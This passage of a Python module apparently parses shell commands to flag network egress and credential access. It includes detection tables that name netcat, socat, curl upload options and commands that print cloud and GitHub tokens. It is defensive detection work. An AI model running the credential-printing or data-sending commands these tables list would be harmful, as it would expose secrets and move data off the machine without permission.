    def secret(self, source: str, reason: str) -> None:
        self.found.taint(FlowFlag.SECRET, source, reason)

    def secret_path(self, path: str) -> None:
        """Flag ``path`` if it is credential material."""
        path = path.strip()
        if path and path != "-" and is_credential_path(path):
            self.secret(path, f"{self.name} reads {path} (credentials)")


def _analyze_shell(command: str, found: _Findings, depth: int) -> None:
    """Judge every simple command of ``command`` (pipelines, lists, subshells, substitutions)."""
    prepared = _prepare(command)
    if depth < MAX_SHELL_NESTING:
        for substitution in prepared.substitutions:
            _analyze_shell(substitution, found, depth + 1)
    for simple in _simple_commands(prepared):
        for path in simple.inputs:
            if path.startswith(_NETWORK_DEVICES):
                found.send(Egress.READ, f"reading {path} fetches from the network")
            elif is_credential_path(path):
                found.taint(FlowFlag.SECRET, path, f"< {path} reads credentials")
        for path in simple.outputs:
            if path.startswith(_NETWORK_DEVICES):
                found.send(Egress.WRITE, f"redirecting to {path} sends data out")
        _analyze_words(simple.words, tuple(simple.stdin_scripts), found, depth)


_ASSIGNMENT: Final = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*\+?=")
_RESERVED_WORDS: Final = _wordset("! { } if then else elif fi do done while until coproc")
#: Commands that run the command after them: their options that take a value, and how many
#: positional words (``timeout 10``) come before the command.
_WRAPPERS: Final[Mapping[str, tuple[frozenset[str], int]]] = {
    "sudo": (_wordset("-u -g -h -p -C -D -r -t -U -T --user --group"), 0),
    "doas": (_wordset("-u -C"), 0),
    "env": (_wordset("-u -C --unset --chdir"), 0),
    "nohup": (frozenset(), 0),
    "time": (_wordset("-f -o"), 0),
    "command": (frozenset(), 0),
    "exec": (_wordset("-a"), 0),
    "builtin": (frozenset(), 0),
    "nice": (_wordset("-n --adjustment"), 0),
    "ionice": (_wordset("-c -n -p"), 0),
    "stdbuf": (_wordset("-i -o -e"), 0),
    "timeout": (_wordset("-s -k --signal --kill-after"), 1),
    "xargs": (_wordset("-I -d -n -P -L -s -E -a --delimiter --max-args"), 0),
    "watch": (_wordset("-n --interval"), 0),
    "setsid": (frozenset(), 0),
    "unbuffer": (frozenset(), 0),
    "busybox": (frozenset(), 0),
    "strace": (_wordset("-o -e -p -s"), 0),
}


def _command_name(word: str) -> str:
    return word.rsplit("/", 1)[-1].lower().removesuffix(".exe")


def _analyze_words(
    words: Sequence[str], stdin_scripts: tuple[str, ...], found: _Findings, depth: int
) -> None:
    index = 0
    while index < len(words) and (_ASSIGNMENT.match(words[index]) or words[index] in _RESERVED_WORDS):
        index += 1
    if index >= len(words):
        return
    name, args = _command_name(words[index]), tuple(words[index + 1 :])
    if name in _WRAPPERS:
        if name == "command" and {"-v", "-V"} & set(args):
            return  # `command -v curl` only looks curl up
        rest = _unwrap(name, args)
        if rest:
            _analyze_words(rest, stdin_scripts, found, depth)
        elif name == "env":
            found.taint(FlowFlag.SECRET, "env", "env dumps the environment (credentials)")
        return
    invocation = _Invocation(name, args, stdin_scripts, found, depth)
    if _credential_command(invocation):
        return
    handler = _HANDLERS.get(name)
    if handler is None and re.fullmatch(r"(?:python|pypy)[0-9.]*", name):
        handler = _python
    if handler is not None:
        handler(invocation)


def _unwrap(name: str, args: Sequence[str]) -> list[str]:
    """Return the command a wrapper runs (empty if none)."""
    with_value, positional = _WRAPPERS[name]
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--":
            i += 1
            break
        if name == "env" and arg in ("-S", "--split-string") and i + 1 < len(args):
            return [*_split(args[i + 1]), *args[i + 2 :]]
        if arg.startswith("-") and len(arg) > 1:
            i += 2 if arg in with_value else 1
            continue
        if name == "env" and _ASSIGNMENT.match(arg):
            i += 1
            continue
        if positional:
            positional -= 1
            i += 1
            continue
        break
    return list(args[i:])


def _split(text: str) -> list[str]:
    try:
        return shlex.split(text)
    except ValueError:
        return text.split()


def _positionals(args: Sequence[str], with_value: Iterable[str] = ()) -> list[str]:
    """Non-option words of ``args``, skipping the values of the options in ``with_value``."""
    takes = frozenset(with_value)
    out: list[str] = []
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--":
            out.extend(args[i + 1 :])
            break
        if arg.startswith("-") and arg != "-":
            i += 2 if arg in takes else 1
            continue
        out.append(arg)
        i += 1
    return out


def _option_value(args: Sequence[str], i: int, inline: str, has_inline: bool) -> tuple[str, int]:
    """The value of the option at ``args[i]`` (its ``=value`` or the next word), and the next index."""
    if has_inline:
        return inline, i + 1
    return (args[i + 1] if i + 1 < len(args) else ""), i + 2


# --- commands that print credentials (heuristic: FLOW-GUARD.md lists credential files; these
# commands print the same material). Judged on that alone: printing a token is not an egress.

_CREDENTIAL_COMMANDS: Final[Mapping[str, tuple[tuple[str, ...], ...]]] = {
    "gh": (("auth", "token"),),
    "git": (("credential", "fill"),),
    "gcloud": (
        ("auth", "print-access-token"),
        ("auth", "print-identity-token"),
        ("auth", "application-default", "print-access-token"),
    ),
    "az": (("account", "get-access-token"),),
    "aws": (("configure", "get"), ("configure", "export-credentials"), ("sts", "get-session-token")),
    "kubectl": (("get", "secret"), ("get", "secrets")),
    "security": (("find-generic-password",), ("find-internet-password",)),
    "op": (("read",), ("item", "get")),
    "pass": (("show",),),
    "vault": (("read",), ("kv", "get")),
}
_CREDENTIAL_COMMAND_OPTIONS: Final = _wordset("-C -c --git-dir -n --namespace -R --repo")


def _credential_command(inv: _Invocation) -> bool:
    """Flag a command that prints credentials; return whether it was one."""
    words = _positionals(inv.args, _CREDENTIAL_COMMAND_OPTIONS)
    for pattern in _CREDENTIAL_COMMANDS.get(inv.name, ()):
        if len(words) >= len(pattern) and all(
            word == part or word.startswith(part + "/") for word, part in zip(words, pattern, strict=False)
        ):
            what = " ".join((inv.name, *pattern))
            inv.secret(what, f"{what} prints credentials")
            return True
    return False


# --- readers


@dataclass(frozen=True)
class _Reader:
    """A command that prints the files it is given.

    ``pattern_first``: its first positional is a pattern or script, unless one of
    ``script_options`` supplies it; ``with_value``/``two_values``: options followed by one
    or two values.
    """

    pattern_first: bool = False
    script_options: frozenset[str] = frozenset()
    with_value: frozenset[str] = frozenset()
    two_values: frozenset[str] = frozenset()


#: Reader options whose value is a pattern or script text, not a file.
_PATTERN_OPTIONS: Final = _wordset("-e --regexp --expression")
_PLAIN_READERS: Final = _wordset(
    "cat tac head tail less more bat batcat nl od xxd hexdump hd strings base64 base32 basenc"
    " cut sort uniq paste column fold fmt pr diff sdiff comm view openssl iconv rev expand"
    " unexpand source ."
)
_GREP: Final = _Reader(
    True,
    _wordset("-e -f --regexp --file"),
    _wordset("-e -f -m -A -B -C -d -D --regexp --file --max-count --context"),
)
_READERS: Final[Mapping[str, _Reader]] = {
    **dict.fromkeys(_PLAIN_READERS, _Reader()),
    **dict.fromkeys(_wordset("grep egrep fgrep zgrep ag ack"), _GREP),
    "rg": _Reader(
        True,
        _wordset("-e -f --regexp --file"),
        _wordset(
            "-e -f -g -m -A -B -C -t -T -M -j -r -E --glob --iglob --type --type-not --replace"
            " --regexp --file --max-count"
        ),
    ),
    "sed": _Reader(True, _wordset("-e -f --expression --file"), _wordset("-e -f -l --expression --file")),
    **dict.fromkeys(
        _wordset("awk gawk mawk nawk"),
        _Reader(True, _wordset("-f --file"), _wordset("-F -v -f --field-separator --assign")),
    ),
    **dict.fromkeys(
        _wordset("jq yq"),
        _Reader(
            True,
            _wordset("-f --from-file"),
            _wordset("-f --from-file --indent -L"),
            _wordset("--arg --argjson --slurpfile --rawfile"),
        ),
    ),
}


def _reader(inv: _Invocation) -> None:
    spec = _READERS[inv.name]
    args = inv.args
    if inv.name == "sed" and any(arg.startswith(("-i", "--in-place")) for arg in args):
        return  # edits in place; prints nothing
    pattern_pending = spec.pattern_first and not any(
        arg.partition("=")[0] in spec.script_options or arg[:2] in spec.script_options for arg in args
    )
    checked: list[str] = []
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--":
            rest = list(args[i + 1 :])
            checked.extend(rest[1:] if pattern_pending else rest)
            break
        if arg.startswith("-") and len(arg) > 1:
            option, has_inline, inline = arg.partition("=")
            count = 2 if option in spec.two_values else int(option in spec.with_value and not has_inline)
            if option not in _PATTERN_OPTIONS:  # `-e PATTERN` names no file; `-f FILE` does
                checked.extend([inline] if has_inline else args[i + 1 : i + 1 + count])
            i += 1 + count
            continue
        if pattern_pending:
            pattern_pending = False
        else:
            checked.append(arg)
        i += 1
    for path in checked:
        inv.secret_path(path)


def _dd(inv: _Invocation) -> None:
    for arg in inv.args:
        if arg.startswith("if="):
            inv.secret_path(arg.removeprefix("if="))


# --- environment dumps (brief: printenv/env dumping the environment counts as secret)

_SECRET_NAME: Final = re.compile(
    r"SECRET|TOKEN|PASSW(?:OR)?D|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIAL|AUTH", re.IGNORECASE
)


def _printenv(inv: _Invocation) -> None:
    names = _positionals(inv.args)
    if not names:
        inv.secret("printenv", "printenv dumps the environment (credentials)")
    elif any(_SECRET_NAME.search(name) for name in names):
        inv.secret("printenv", f"printenv prints {' '.join(names)} (credentials)")


def _env_listing(inv: _Invocation) -> None:
    """``export``/``export -p``, bare ``set`` and ``declare``/``declare -p``/``-x`` list variables."""
    if any(not arg.startswith(("-", "+")) for arg in inv.args):
        return  # names given: `export A=1`, `declare -a list`
    if inv.name == "set" and inv.args:
        return  # `set -e`, `set -o pipefail`
    options = {letter for arg in inv.args for letter in arg[1:]}
    if inv.name in ("declare", "typeset") and inv.args and not options & {"p", "x"}:
        return
    inv.secret(inv.name, f"{inv.name} lists the environment (credentials)")


# --- HTTP clients

_WRITE_METHODS: Final = _wordset("POST PUT PATCH DELETE")
_INFO_ONLY: Final = _wordset("--version -V --help -h --manual -M")
#: curl's short options that take a value (the rest of the cluster or the next word).
_CURL_SHORT_WITH_VALUE: Final = frozenset("AbcCdDeEFHKmoPQrtTuUwxXyYz")
_CURL_LONG_DATA: Final = _wordset(
    "--data --data-ascii --data-binary --data-raw --data-urlencode --json --form --form-string"
    " --upload-file --mail-rcpt --mail-from"
)


def _info_only(inv: _Invocation) -> bool:
    return bool(inv.args) and set(inv.args) <= _INFO_ONLY


def _curl(inv: _Invocation) -> None:
    """curl: ``-d``/``--data*``/``--json``/``-F``/``-T``/``--upload-file``/``-X POST|PUT|PATCH|DELETE``
    send data (write egress); any other use fetches (read egress)."""
    if _info_only(inv):
        return
    args = inv.args
    sends: str | None = None
    i = 0
    while i < len(args):
        arg = args[i]
        if arg.startswith("--"):
            option, has_inline, inline = arg.partition("=")
            if option not in _CURL_LONG_DATA and option != "--request":
                i += 1
                continue
            value, i = _option_value(args, i, inline, bool(has_inline))
            if option == "--request":
                sends = sends or (f"curl -X {value.upper()}" if value.upper() in _WRITE_METHODS else None)
            else:
                sends = sends or f"curl {option}"
                _curl_data_file(inv, "F" if option.startswith("--form") else option, value)
            continue
        i += 1
        if not arg.startswith("-") or len(arg) < 2:
            continue
        for position, letter in enumerate(arg[1:], start=1):
            if letter not in _CURL_SHORT_WITH_VALUE:
                continue
            value = arg[position + 1 :]
            if not value:
                value = args[i] if i < len(args) else ""
                i += 1
            if letter in "dFT":
                sends = sends or f"curl -{letter}"
                _curl_data_file(inv, letter, value)
            elif letter == "X" and value.upper() in _WRITE_METHODS:
                sends = sends or f"curl -X {value.upper()}"
            break
    if sends:
        inv.write(sends)
    else:
        inv.read("curl")


def _curl_data_file(inv: _Invocation, option: str, value: str) -> None:
    """Flag a credential file a curl data option uploads (``-d @.env``, ``-F f=@.env``, ``-T .env``)."""
    if option in ("T", "--upload-file"):
        inv.secret_path(value)
    elif option == "F":
        for marker in ("=@", "=<"):
            if marker in value:
                inv.secret_path(value.split(marker, 1)[1].split(";", 1)[0])
    elif value.startswith("@"):
        inv.secret_path(value[1:])


def _wget(inv: _Invocation) -> None:
    """wget: ``--post-*``/``--body-*``/``--method=POST|...`` send (write egress); else read egress."""
    if _info_only(inv):
        return
    args = inv.args
    sends: str | None = None
    i = 0
    while i < len(args):
        option, has_inline, inline = args[i].partition("=")
        if option not in ("--post-data", "--post-file", "--body-data", "--body-file", "--method"):
            i += 1
            continue
        value, i = _option_value(args, i, inline, bool(has_inline))
        if option == "--method":
            sends = sends or (f"wget --method={value.upper()}" if value.upper() in _WRITE_METHODS else None)
        else:
            sends = sends or f"wget {option}"
            if option.endswith("-file"):
                inv.secret_path(value)
    if sends:
        inv.write(sends)
    else:
        inv.read("wget")


def _httpie(inv: _Invocation) -> None:
    """HTTPie/xh: ``http [METHOD] URL [items]``; data items (``a=b``, ``a:=1``, ``f@file``) send."""
    words = _positionals(inv.args, _wordset("-a --auth -o --output --session -A --auth-type"))
    if not words:
        return
    method = words[0] if words[0].isalpha() and words[0].isupper() else None
    sends = method in _WRITE_METHODS
    for item in words[2:] if method else words[1:]:
        if "==" in item:
            continue  # a query parameter
        if "=" in item:
            sends = True
        elif "@" in item:
            sends = True
            inv.secret_path(item.split("@", 1)[1])
    if sends:
        inv.write(f"{inv.name} {method or 'with data'}")
    else:
        inv.read(inv.name)


def _powershell_web(inv: _Invocation) -> None:
    """Invoke-WebRequest/Invoke-RestMethod: ``-Body``/``-InFile``/``-Form``/``-Method POST|...`` send."""
    lowered = [arg.lower() for arg in inv.args]
    sends = bool({"-body", "-infile", "-form"} & set(lowered))
    for i, arg in enumerate(lowered[:-1]):
        if arg == "-method" and lowered[i + 1].upper() in _WRITE_METHODS:
            sends = True
        elif arg == "-infile":
            inv.secret_path(inv.args[i + 1])
    if sends:
        inv.write(inv.name)
    else:
        inv.read(inv.name)


# --- remote shells and copies

_REMOTE: Final = re.compile(
    r"^(?:[a-z][a-z0-9+.-]*://|(?:[^\s/@:]+@)?(?:\[[^\]]*\]|[^\s/:]+):)", re.IGNORECASE
)
_COPY_OPTIONS: Final[Mapping[str, frozenset[str]]] = {
    "scp": _wordset("-c -D -F -i -J -l -o -P -S -X"),
    "rsync": _wordset(
        "-e -f -T -M --rsh --filter --exclude --include --exclude-from --include-from --files-from"
        " --temp-dir --port --password-file --log-file"
    ),
}


def _remote_copy(inv: _Invocation) -> None:
    """``scp``/``rsync``: to a remote host is a write egress, from one a read egress."""
    words = _positionals(inv.args, _COPY_OPTIONS[inv.name])
    if not words:
        return
    *sources, destination = words
    if _REMOTE.match(destination):
        for source in sources:
            inv.secret_path(source)
        inv.write(f"{inv.name} to a remote host")
    elif any(_REMOTE.match(source) for source in sources):
        inv.read(f"{inv.name} from a remote host")


def _ssh(inv: _Invocation) -> None:
    if not (inv.args and set(inv.args) <= {"-V"}):
        inv.write(inv.name)


def _always_write(inv: _Invocation) -> None:
    """Network tools that can send anything (netcat, telnet, ftp, sftp, mail senders)."""
    inv.write(inv.name)


def _always_read(inv: _Invocation) -> None:
    """Tools that download or query the network (``npx``, DNS lookups, ``ping``)."""
    if not _info_only(inv):
        inv.read(inv.name)


# --- git, gh, package managers, cloud CLIs

#: subcommand -> egress, or -> {sub-subcommand -> egress} (``git lfs push``, ``uv pip install``).
_EgressTable: TypeAlias = Mapping[str, Egress | Mapping[str, Egress]]

_GIT_GLOBAL_WITH_VALUE: Final = _wordset("-C -c --git-dir --work-tree --namespace --config-env")
_GIT: Final[_EgressTable] = {
    "push": Egress.WRITE,
    "send-email": Egress.WRITE,
    "fetch": Egress.READ,
    "pull": Egress.READ,
    "clone": Egress.READ,
    "ls-remote": Egress.READ,
    "submodule": {"update": Egress.READ, "add": Egress.READ},
    "remote": {"update": Egress.READ},
    "lfs": {"push": Egress.WRITE, "fetch": Egress.READ, "pull": Egress.READ, "clone": Egress.READ},
}
_INSTALL: Final[Mapping[str, Egress]] = dict.fromkeys(
    _wordset("install download add update upgrade"), Egress.READ
)
_NODE: Final[_EgressTable] = {
    **dict.fromkeys(_wordset("install i ci add update upgrade up exec dlx create x"), Egress.READ),
    **dict.fromkeys(_wordset("publish unpublish"), Egress.WRITE),
}
_PIP: Final[_EgressTable] = dict.fromkeys(_wordset("install download wheel"), Egress.READ)
_CONTAINERS: Final[_EgressTable] = {"pull": Egress.READ, "push": Egress.WRITE}
#: Package managers and registries (heuristic): installs fetch (read), publishes send (write).
_SUBCOMMANDS: Final[Mapping[str, _EgressTable]] = {
    "git": _GIT,
    "pip": _PIP,
    "pip3": _PIP,
    "pipx": dict.fromkeys(_wordset("install run upgrade"), Egress.READ),
    "uv": {
        **dict.fromkeys(_wordset("add sync lock"), Egress.READ),
        "pip": {"install": Egress.READ, "download": Egress.READ},
        "tool": {"install": Egress.READ, "run": Egress.READ},
        "publish": Egress.WRITE,
    },
    "poetry": {**_INSTALL, "lock": Egress.READ, "publish": Egress.WRITE},
    **dict.fromkeys(_wordset("npm pnpm yarn bun"), _NODE),
    "cargo": {**_INSTALL, "fetch": Egress.READ, "publish": Egress.WRITE},
    "go": dict.fromkeys(_wordset("get install mod"), Egress.READ),
    "gem": {**_INSTALL, "fetch": Egress.READ, "push": Egress.WRITE},
    "bundle": _INSTALL,
    "composer": {**_INSTALL, "require": Egress.READ},
    **dict.fromkeys(_wordset("apt apt-get dnf yum apk brew conda mamba micromamba"), _INSTALL),
    "docker": _CONTAINERS,
    "podman": _CONTAINERS,
    "twine": {"upload": Egress.WRITE},
    "huggingface-cli": {"download": Egress.READ, "upload": Egress.WRITE},
}


def _subcommand(inv: _Invocation) -> None:
    table = _SUBCOMMANDS[inv.name]
    words = _positionals(inv.args, _GIT_GLOBAL_WITH_VALUE if inv.name == "git" else ())
    if not words:
        return
    # The subcommand is the first positional; the second is tried only when the first directly
    # follows an option, whose value it may be (`npm --prefix dir install`).
    first = inv.args.index(words[0])
    after_option = first > 0 and inv.args[first - 1].startswith("-")
    for position, word in enumerate(words[: 2 if after_option else 1]):
        entry = table.get(word)
        if entry is None:
            continue
        spelled = f"{inv.name} {word}"
        if not isinstance(entry, Egress):
            following = words[position + 1] if position + 1 < len(words) else ""
            spelled = f"{spelled} {following}"
            entry = entry.get(following, Egress.NONE)
        if entry is Egress.WRITE:
            inv.write(spelled)
        elif entry is Egress.READ:
            inv.read(spelled)
        return


_GH_WRITE_ACTIONS: Final = _wordset(
    "create comment edit merge close reopen review upload delete fork rename set ready lock"
    " unlock transfer pin unpin develop archive sync rerun"
)
_GH_FIELDS: Final = _wordset("-f -F --field --raw-field --input")


def _gh(inv: _Invocation) -> None:
    """GitHub CLI: everything talks to GitHub (read egress); creating, commenting, editing,
    ``gh api`` with fields or a non-GET method send (write egress)."""
    words = _positionals(inv.args, _wordset("-R --repo -X --method -H --header") | _GH_FIELDS)
    if not words or words[0] == "auth":
        return
    if words[0] == "api":
        options = {arg.partition("=")[0] for arg in inv.args}
        method = "GET"
        for i, arg in enumerate(inv.args[:-1]):
            if arg in ("-X", "--method"):
                method = inv.args[i + 1].upper()
        if options & _GH_FIELDS or method != "GET":
            inv.write("gh api")
        else:
            inv.read("gh api")
    elif len(words) > 1 and words[1] in _GH_WRITE_ACTIONS:
        inv.write(f"gh {words[0]} {words[1]}")
    else:
        inv.read(f"gh {words[0]}")


_CLOUD_COPY: Final = _wordset("cp sync mv copy move copyto moveto rsync")
_CLOUD_SEND: Final = _wordset("upload upload-batch put-object publish send-message send-email invoke")


def _cloud(inv: _Invocation) -> None:
    """aws/gsutil/gcloud/az/rclone: a copy to a bucket or remote, or an upload, sends (write
    egress); anything else talks to the provider (read egress)."""
    words = _positionals(inv.args)
    if not words:
        return
    spelled = " ".join((inv.name, *words[:2]))
    if set(words) & _CLOUD_SEND or (set(words) & _CLOUD_COPY and _REMOTE.match(words[-1])):
        for word in words[:-1]:
            inv.secret_path(word)
        inv.write(spelled)
    else:
        inv.read(spelled)


_KUBECTL_WRITE: Final = _wordset("apply create cp exec replace patch edit run")


def _kubectl(inv: _Invocation) -> None:
    words = _positionals(inv.args, _wordset("-n --namespace -o --output --context -f -c"))
    if words:
        if words[0] in _KUBECTL_WRITE:
            inv.write(f"kubectl {words[0]}")
        else:
            inv.read(f"kubectl {words[0]}")


# --- interpreters and shells

_SHELLS: Final = _wordset("sh bash zsh dash ksh mksh ash fish")


def _shell_script(args: Sequence[str]) -> tuple[str | None, bool]:
    """``(the script of -c, whether a script file is named)`` for a shell's arguments."""
    i = 0
    while i < len(args):
        arg = args[i]
        if arg in ("-o", "+o", "-O", "+O"):
            i += 2
        elif arg.startswith("--"):
            i += 1
        elif arg.startswith("-") and "c" in arg[1:]:
            j = i + 1
            while j < len(args) and args[j].startswith(("-", "+")) and args[j] != "-":
                j += 2 if args[j] in ("-o", "+o") else 1
            return (args[j] if j < len(args) else None), False
        elif arg.startswith(("-", "+")) and arg != "-":
            i += 1
        else:
            return None, arg != "-"
    return None, False


def _shell(inv: _Invocation) -> None:
    """``bash -c SCRIPT``, and a heredoc or here-string fed to a shell, are parsed recursively."""
    if inv.depth >= MAX_SHELL_NESTING:
        return
    script, names_file = _shell_script(inv.args)
    scripts = [script] if script is not None else ([] if names_file else list(inv.stdin_scripts))
    for text in scripts:
        _analyze_shell(text, inv.found, inv.depth + 1)


def _eval(inv: _Invocation) -> None:
    if inv.depth < MAX_SHELL_NESTING and inv.args:
        _analyze_shell(" ".join(inv.args), inv.found, inv.depth + 1)


def _python(inv: _Invocation) -> None:
    """``python -m pip install ...`` is judged as ``pip install ...``; other code is opaque."""
    args = list(inv.args)
    if "-m" in args[:-1]:
        _analyze_words(args[args.index("-m") + 1 :], inv.stdin_scripts, inv.found, inv.depth)


_HANDLERS: Final[Mapping[str, Callable[[_Invocation], None]]] = {
    **dict.fromkeys(_READERS, _reader),
    "dd": _dd,
    "printenv": _printenv,
    **dict.fromkeys(_wordset("export set declare typeset"), _env_listing),
    "curl": _curl,
    "wget": _wget,
    **dict.fromkeys(_wordset("http https xh xhs"), _httpie),
    **dict.fromkeys(_wordset("iwr irm invoke-webrequest invoke-restmethod"), _powershell_web),
    "scp": _remote_copy,
    "rsync": _remote_copy,
    "ssh": _ssh,
    **dict.fromkeys(
        _wordset("sftp nc ncat netcat socat telnet ftp lftp tftp mail mailx s-nail sendmail mutt msmtp"),
        _always_write,
    ),
    **dict.fromkeys(_wordset("npx pnpx bunx uvx ping dig nslookup host traceroute whois"), _always_read),
    **dict.fromkeys(_SUBCOMMANDS, _subcommand),
    "gh": _gh,
    **dict.fromkeys(_wordset("aws gsutil gcloud az rclone"), _cloud),
    "kubectl": _kubectl,
    **dict.fromkeys(_SHELLS, _shell),
    "eval": _eval,
}
